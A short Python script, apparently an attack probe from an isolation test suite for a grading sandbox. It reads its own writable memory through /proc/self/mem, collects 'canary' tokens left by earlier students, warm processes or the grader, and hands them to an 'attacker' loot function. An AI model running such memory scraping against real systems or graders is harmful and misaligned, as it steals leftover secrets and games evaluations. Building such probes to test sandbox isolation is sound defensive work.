"""Searches the memory of its own process for what an earlier student, the warm process or the grader left."""

import re

from attacker import loot

with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" not in line or end - start > 200_000_000:
            continue
        try:
            memory.seek(start)
            loot(*re.findall(rb"canary-[0-9a-f]{16}", memory.read(end - start)))
        except (OSError, ValueError, OverflowError):
            continue
